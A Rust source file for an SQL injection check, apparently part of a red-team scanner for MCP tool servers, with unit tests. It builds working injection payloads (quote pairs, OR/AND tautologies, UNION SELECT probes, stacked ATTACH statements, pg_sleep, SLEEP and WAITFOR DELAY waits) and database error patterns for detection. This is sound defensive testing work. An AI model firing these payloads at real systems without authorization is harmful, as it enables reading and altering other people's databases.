//! Text that becomes part of an SQL statement.

use std::sync::LazyLock;
use std::time::Duration;

use regex::Regex;

use super::pairs::{self, Ordered};
use super::{purpose, reach, traces};
use crate::attack::{Aim, Attack, Attempt, Bout, Brief, Facts, Field, Hit, Kind, Sign, Tried};
use crate::finding::Severity;
use crate::knowledge::words;
use crate::registry::Meta;

pub(super) struct SqlInjection;

static META: Meta = Meta {
    id: "sql-injection",
    aliases: &["sqli"],
    summary: "Text of an argument becomes part of an SQL statement",
    docs: "\
# What it does
Sends values that mean something to SQLite, PostgreSQL, MySQL and SQL Server only if they reach a statement unquoted: a quote and a
doubled quote, conditions that are true and false inside quotes, as numbers and as an order, comments behind names, `UNION` with one to
eight columns, further statements that leave a marker in the canary ground, and waits. Tools that sound as if they change data get
nothing that could change more of it. Arguments that take a query by contract are left alone.

# Why it matters
Whoever writes the argument reads and changes the whole database.

# What counts as proof
Pairs, not single signs: an error of the database after a quote and none after two; the same answer for everything true and another for
what is false, though the texts have the same letters; the product of two random numbers that no row holds; a marker that appeared; an
answer that takes as long as the statement waits, where others do not.

# Example
```yaml
redteam:
  plugins: [sql-injection]
```

# References
- CWE-89, OWASP MCP05
",
    since: "0.1.0",
};

static FACTS: Facts = Facts {
    severity: Severity::High,
    cwe: &[89],
    frameworks: &["MCP05", "ASI02", "LLM05"],
    needs: &[],
};

const KINDS: [Kind; 6] =
    [Kind::Filter, Kind::Id, Kind::Name, Kind::Text, Kind::Number, Kind::Other];

/// Columns that `UNION` is tried with.
const MAX_COLUMNS: usize = 8;
const WAIT: Duration = Duration::from_secs(2);
/// The role of what waits.
const WAITS: &str = "waits";

/// What databases say of a statement that does not parse. Full-text queries have errors of their own.
static ERRORS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"(?i)unrecognized token: ?["']|near ["'].{0,40}["']: syntax error|sqlite_error|"#,
        r"sqlite3?\.OperationalError|unterminated quoted string at or near|syntax error at or near|",
        r"error in your SQL syntax|unclosed quotation mark|incorrect syntax near|",
        r"ORA-0(?:0933|1756|0936)|quoted string not properly terminated|psycopg2\.errors\.SyntaxError|",
        r"SQLSTATE\[?42|PostgresError: .{0,40}syntax|unexpected end of SQL command"
    ))
    .ok()
});

impl Attack for SqlInjection {
    fn meta(&self) -> Meta {
        META
    }

    fn has_one_fault(&self) -> bool {
        true
    }

    fn facts(&self) -> Facts<'static> {
        FACTS
    }

    fn aims(&self, field: &Field<'_>) -> Vec<Aim> {
        let mut aims = field.texts(&KINDS, false);
        aims.extend(field.numbers());
        aims.retain(|aim| !purpose::is_query(field, aim));
        aims
    }

    fn attempts(&self, aim: &Aim, brief: &Brief<'_>) -> Vec<Attempt> {
        let careful = purpose::changes_data(aim);
        let innocent = tame(reach::plausible(aim));
        let mut volley = Volley { aim, brief, innocent, careful, set: 0, made: Vec::new() };
        if aim.is(Kind::Number) {
            volley.numeric();
            volley.comment();
            return volley.made;
        }
        volley.quotes();
        if volley.innocent.parse::<f64>().is_ok() {
            volley.numeric();
        }
        volley.conditions();
        if volley.is_name() {
            volley.names();
        }
        let first = aim.kinds.first().copied().unwrap_or(Kind::Other);
        if matches!(first, Kind::Filter | Kind::Id | Kind::Name | Kind::Text | Kind::Other) {
            volley.comment();
            volley.conditions_of_innocent();
            volley.failures();
        }
        if matches!(first, Kind::Filter | Kind::Id | Kind::Name | Kind::Text) {
            volley.statements();
        }
        if matches!(first, Kind::Filter | Kind::Id) {
            volley.double_quotes();
            volley.union();
            volley.waits();
        }
        volley.made
    }

    fn expects(&self, set: &[Attempt], _: &Field<'_>) -> Option<(usize, Sign)> {
        match set {
            [only] if only.role == WAITS => None,
            [only] => only.foretells().map(|sign| (0, sign)),
            _ => Some((0, Sign::Differs)),
        }
    }

    fn detect(&self, bout: &Bout<'_>) -> Vec<Hit> {
        let mut hits = Vec::new();
        for (_, set) in bout.sets() {
            let Some(first) = set.first() else { continue };
            let what = match set.as_slice() {
                [only] => {
                    traces::seen(only).or_else(|| computed(only)).or_else(|| waited(bout, only))
                }
                [_, _] => error_pair(bout, &set),
                _ => pairs::differ(&set),
            };
            hits.extend(what.map(|what| {
                let form = &first.attempt.form;
                let title = format!("{} becomes part of an SQL statement ({form})", bout.aim.place);
                let hit = Hit::confirmed(title, what).by(first).fault("statement");
                match set.as_slice() {
                    [only] if only.attempt.role != WAITS => hit.said(only, &only.attempt.role),
                    [_] => hit,
                    _ => hit.sign(Sign::Differs),
                }
            }));
        }
        hits
    }
}

/// A value without quotes of its own, which would spoil all that is hung on it: its longest word.
fn tame(value: String) -> String {
    if !value.contains(['\'', '"', '`']) {
        return value;
    }
    let plain = |c: char| c.is_alphanumeric() || matches!(c, '_' | '-' | '.' | ' ');
    let words = value.split(|c| !plain(c)).map(str::trim);
    words.max_by_key(|word| word.len()).unwrap_or_default().to_owned()
}

/// Attempts in the making.
struct Volley<'a> {
    aim: &'a Aim,
    brief: &'a Brief<'a>,
    innocent: String,
    /// The tool changes data: no condition may hold for more rows than the innocent value does.
    careful: bool,
    set: usize,
    made: Vec<Attempt>,
}

impl Volley<'_> {
    fn one(&mut self, form: &str, role: &str, payload: String) {
        let nonce = self.brief.nonce();
        let attempt = reach::attempt(self.aim, (self.set, form), nonce, payload);
        self.made.extend(attempt.map(|attempt| Attempt { role: role.to_owned(), ..attempt }));
    }

    fn pair(
        &mut self,
        form: &str,
        draw: impl Fn(&Brief<'_>) -> Ordered,
        payload: impl Fn(&Ordered) -> String,
    ) {
        self.made.extend(pairs::set(self.aim, self.brief, (self.set, form), draw, payload));
        self.set += 1;
    }

    fn quotes(&mut self) {
        let innocent = self.innocent.clone();
        self.one("a quote and a doubled quote", "quote", format!("{innocent}'"));
        self.one("a quote and a doubled quote", "doubled", format!("{innocent}''"));
        self.set += 1;
    }

    /// `<` holds with whatever the statement has behind the value, such as the `%` of a `LIKE`.
    fn conditions(&mut self) {
        if !self.careful {
            self.pair("a condition with OR", Ordered::words, |pair| {
                format!("zq' OR '{}'<'{}", pair.low, pair.high)
            });
        }
    }

    fn double_quotes(&mut self) {
        if !self.careful {
            self.pair("a condition with OR between double quotes", Ordered::words, |pair| {
                format!("zq\" OR \"{}\"<\"{}", pair.low, pair.high)
            });
        }
    }

    fn conditions_of_innocent(&mut self) {
        let innocent = self.innocent.clone();
        self.pair("a condition with AND", Ordered::words, |pair| {
            format!("{innocent}' AND '{}'<'{}", pair.low, pair.high)
        });
    }

    fn numeric(&mut self) {
        let innocent = self.innocent.clone();
        if !self.careful && self.aim.baseline.is_none() {
            self.pair("a condition with OR after a number", Ordered::numbers, |pair| {
                format!("0 OR {}<{}", pair.low, pair.high)
            });
        }
        self.pair("a condition with AND after a number", Ordered::numbers, |pair| {
            format!("{innocent} AND {}<{}", pair.low, pair.high)
        });
    }

    /// An expression that fails or not while it runs, wherever a text stands. Each database has its
    /// own way to fail.
    fn failures(&mut self) {
        let innocent = self.innocent.clone();
        self.pair("an expression inside of a text", Ordered::numbers, |pair| {
            let failure = "CAST(abs(-9223372036854775808)/0 AS CHAR(9))";
            let (low, high) = (&pair.low, &pair.high);
            format!("{innocent}'||(CASE WHEN {low}<{high} THEN '' ELSE {failure} END)||'")
        });
    }

    /// Whether the value is the name of a table or column, or an order.
    fn is_name(&self) -> bool {
        const NAMES: [&str; 12] = [
            "by",
            "column",
            "columns",
            "direction",
            "dir",
            "field",
            "fields",
            "group",
            "order",
            "sort",
            "table",
            "sorting",
        ];
        let argument = words(&self.aim.place.argument().unwrap_or_default());
        argument.last().is_some_and(|word| NAMES.contains(&word.as_str()))
    }

    fn names(&mut self) {
        self.pair("an expression as order", Ordered::numbers, |pair| {
            format!(
                "(CASE WHEN {}<{} THEN 1 ELSE (SELECT abs(-9223372036854775808)/0 FROM (SELECT 1 UNION SELECT 2) q) END)",
                pair.low, pair.high
            )
        });
    }

    /// A comment, and the same signs in another order. It changes nothing, so every tool gets it.
    fn comment(&mut self) {
        // A name that nobody knows does as well.
        let plain = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '.';
        let is_plain = !self.innocent.is_empty() && self.innocent.chars().all(plain);
        let innocent = if is_plain { self.innocent.clone() } else { "q".to_owned() };
        self.pair("a comment behind a name or number", Ordered::words, |pair| {
            let tail = &pair.low[2..];
            if pair.low < pair.high {
                format!("{innocent}/*{tail}*/")
            } else {
                format!("{innocent}*/{tail}/*")
            }
        });
    }

    fn union(&mut self) {
        if self.careful {
            return;
        }
        let number = self.innocent.parse::<f64>().is_ok();
        let before = if number { "0" } else { "zq'" };
        for columns in 1..=MAX_COLUMNS {
            let (a, b) = (self.brief.number(), self.brief.number());
            let row = vec![format!("{a}*{b}"); columns].join(",");
            let form = format!("UNION, {columns} columns");
            self.one(&form, &(a * b).to_string(), format!("{before} UNION SELECT {row}-- 9"));
            self.set += 1;
        }
    }

    /// A file that SQLite makes, and nothing else.
    fn statements(&mut self) {
        let ends = [
            ("a further statement behind a condition", "' WHERE 1=0;"),
            ("a further statement behind a list", "');"),
            ("a further statement", "';"),
        ];
        for (form, end) in ends.into_iter().take(if self.careful { 2 } else { 3 }) {
            let nonce = self.brief.nonce();
            let Some(path) = traces::marker(self.brief, &nonce) else { return };
            let attach = format!("ATTACH '{path}' AS q;CREATE TABLE q.t(x);DETACH q;-- ");
            let payload = format!("{}{end}{attach}", self.innocent);
            self.made.extend(reach::attempt(self.aim, (self.set, form), nonce, payload));
            self.set += 1;
        }
    }

    fn waits(&mut self) {
        let (innocent, seconds) = (self.innocent.clone(), WAIT.as_secs());
        let sleep = format!("(SELECT 1 FROM (SELECT SLEEP({seconds})) q)");
        let waits = [
            ("a wait of PostgreSQL", format!("'||(SELECT '' FROM pg_sleep({seconds}))||'")),
            ("a wait of MySQL", format!("' AND {sleep} AND '1'='1")),
            ("a wait of SQL Server", format!("';WAITFOR DELAY '0:0:{seconds}';-- ")),
        ];
        for (form, wait) in waits.into_iter().take(if self.careful { 2 } else { 3 }) {
            self.one(form, WAITS, format!("{innocent}{wait}"));
            self.set += 1;
        }
    }
}

fn computed(tried: &Tried) -> Option<String> {
    let shown = &tried.attempt.role;
    (!shown.is_empty() && shown != WAITS && tried.said().contains(shown.as_str()))
        .then(|| format!("the answer holds {shown}, the product of two random numbers"))
}

/// An error of the database after one quote, and none after two or without.
fn error_pair(bout: &Bout<'_>, set: &[&Tried]) -> Option<String> {
    let of = |role: &str| set.iter().find(|tried| tried.attempt.role == role);
    let error = |text: &str| {
        let found = ERRORS.as_ref()?.find(text).map(|found| found.as_str().to_owned());
        found.filter(|_| !text.contains("fts5") && !text.contains("tsquery"))
    };
    let quote = of("quote")?;
    let found = error(&quote.said())?;
    let innocent =
        bout.baseline().is_some_and(|exchange| error(&exchange.outcome.said()).is_none());
    let doubled = of("doubled")?;
    let fine = doubled.last()?.outcome.is_answer() && error(&doubled.said()).is_none();
    (innocent && fine)
        .then(|| format!("after one quote the database says {found:?}, after two it does not"))
}

/// An answer that takes as long as the statement waits; neither the innocent call nor statements of
/// other databases do.
fn waited(bout: &Bout<'_>, tried: &Tried) -> Option<String> {
    let took = |tried: &Tried| tried.last().map_or(Duration::MAX, |exchange| exchange.took);
    let is_wait = |tried: &&Tried| tried.attempt.role == WAITS;
    let mut others = bout.tried.iter().filter(is_wait);
    let set = tried.attempt.set;
    let alone = others.all(|other| other.attempt.set == set || took(other) < WAIT / 3);
    let (slow, usual) = (took(tried), bout.baseline()?.took);
    let waits = is_wait(&tried) && alone && usual < WAIT / 3 && slow >= WAIT && slow < WAIT * 3;
    waits.then(|| {
        let (slow, usual) = (slow.as_millis(), usual.as_millis());
        format!("the answer took {slow} ms, and {usual} ms without the wait")
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attacks::testing::{Room, answers};
    use crate::evidence::{Evidence, Observation};
    use serde_json::json;

    fn room() -> Room {
        Room::with_argument("find_user", "query", "ann")
    }

    fn text(attempt: &Attempt) -> String {
        attempt.payload.as_ref().unwrap().as_str().unwrap().to_owned()
    }

    fn titles(hits: &[Hit]) -> String {
        hits.iter().map(|hit| hit.title.clone()).collect::<Vec<_>>().join("; ")
    }

    #[test]
    fn each_oracle_proves_by_itself() {
        let errors = |attempt: &Attempt| match attempt.role.as_str() {
            "quote" => answers("SQLITE_ERROR: unrecognized token: \"'ann''\""),
            _ => answers("ann"),
        };
        assert!(titles(&room().fight(&SqlInjection, errors)).contains("doubled quote"));
        let rows =
            |attempt: &Attempt| answers(if attempt.role == "false" { "[]" } else { "[1, 2]" });
        assert!(titles(&room().fight(&SqlInjection, rows)).contains("condition with OR"));
        let union = |attempt: &Attempt| {
            answers(if attempt.form.starts_with("UNION, 3") { &attempt.role } else { "" })
        };
        assert!(titles(&room().fight(&SqlInjection, union)).contains("UNION, 3 columns"));
        let fails = |attempt: &Attempt| {
            let fails = attempt.form.contains("inside of a text") && attempt.role == "false";
            answers(if fails { "failed" } else { "" })
        };
        assert_eq!(room().fight(&SqlInjection, fails).len(), 1);
        let file = |attempt: &Attempt| {
            let path = format!("/ground/drop/{}", attempt.nonce).into();
            let seen = Observation::File { path, content: String::new() };
            Evidence { observations: vec![seen], ..answers("ok") }
        };
        assert_eq!(room().fight(&SqlInjection, file).len(), 3);
        let slow = |attempt: &Attempt| {
            let mut evidence = answers("ok");
            let wait = if attempt.form.contains("PostgreSQL") { WAIT } else { Duration::ZERO };
            evidence.exchanges[0].took = wait + Duration::from_millis(5);
            evidence
        };
        assert_eq!(room().fight(&SqlInjection, slow).len(), 1);
    }

    #[test]
    fn refusals_echoes_and_constant_answers_are_none() {
        let judge = |answer: &dyn Fn(&Attempt) -> String| {
            titles(&room().fight(&SqlInjection, |attempt| answers(&answer(attempt))))
        };
        assert_eq!(judge(&|attempt| format!("no user {}", text(attempt))), "");
        assert_eq!(judge(&|_| "near \"'\": syntax error".into()), "", "also after two quotes");
        assert_eq!(judge(&|attempt| format!("near \"{}\": syntax error", text(attempt))), "");
        let shell = |attempt: &Attempt| match attempt.role.as_str() {
            "quote" => "/bin/sh: 1: Syntax error: Unterminated quoted string".to_owned(),
            _ => "ann".to_owned(),
        };
        assert_eq!(judge(&shell), "");
        assert_eq!(judge(&|_| "[]".into()), "");
        assert_eq!(judge(&|attempt| attempt.nonce.to_string()), "");
    }

    #[test]
    fn a_slow_server_is_no_wait() {
        let hits = room().fight(&SqlInjection, |_| {
            let mut evidence = answers("ok");
            evidence.exchanges[0].took = WAIT;
            evidence
        });
        assert!(hits.is_empty());
    }

    #[test]
    fn queries_by_contract_are_left_alone() {
        let property = json!({"type": "string", "description": "SQL query"});
        let schema =
            json!({"type": "object", "properties": {"query": property, "sql": {"type": "string"}}});
        let room = Room::of_tools(&[json!({"name": "read_query", "inputSchema": schema})]);
        assert!(SqlInjection.aims(&room.field()).is_empty());
    }

    #[test]
    fn tools_that_change_data_get_nothing_that_holds_for_every_row() {
        let room = Room::with_argument("update_user", "name", "ann");
        for attempt in SqlInjection.attempts(&room.knowledge.aims[0], &room.brief()) {
            let text = text(&attempt);
            assert!(!text.contains(" OR ") && !text.starts_with("ann';"), "{text}");
        }
    }

    #[test]
    fn quotes_of_the_innocent_value_do_not_spoil_ours() {
        assert_eq!(tame("'users'}]".into()), "users");
        assert_eq!(tame("Ann-Marie 2".into()), "Ann-Marie 2");
        let room = Room::with_argument("describe", "table_name", "[{'name': 'users'}]");
        let attempts = SqlInjection.attempts(&room.knowledge.aims[0], &room.brief());
        assert!(attempts.iter().any(|attempt| text(attempt).starts_with("users/*")));
    }

    #[test]
    fn numbers_and_names_get_their_own_forms() {
        let forms = |room: &Room| {
            let aims = SqlInjection.aims(&room.field());
            let attempts = SqlInjection.attempts(&aims[0], &room.brief());
            attempts.into_iter().map(|attempt| attempt.form).collect::<Vec<_>>().join("; ")
        };
        let schema = json!({"type": "object", "properties": {"year": {"type": "integer"}}});
        let number = Room::of_tools(&[json!({"name": "since", "inputSchema": schema})]);
        assert!(forms(&number).contains("after a number") && !forms(&number).contains("quote"));
        assert!(forms(&number).contains("a comment behind"));
        assert!(forms(&Room::with_argument("list", "sort_by", "price")).contains("as order"));
    }
}
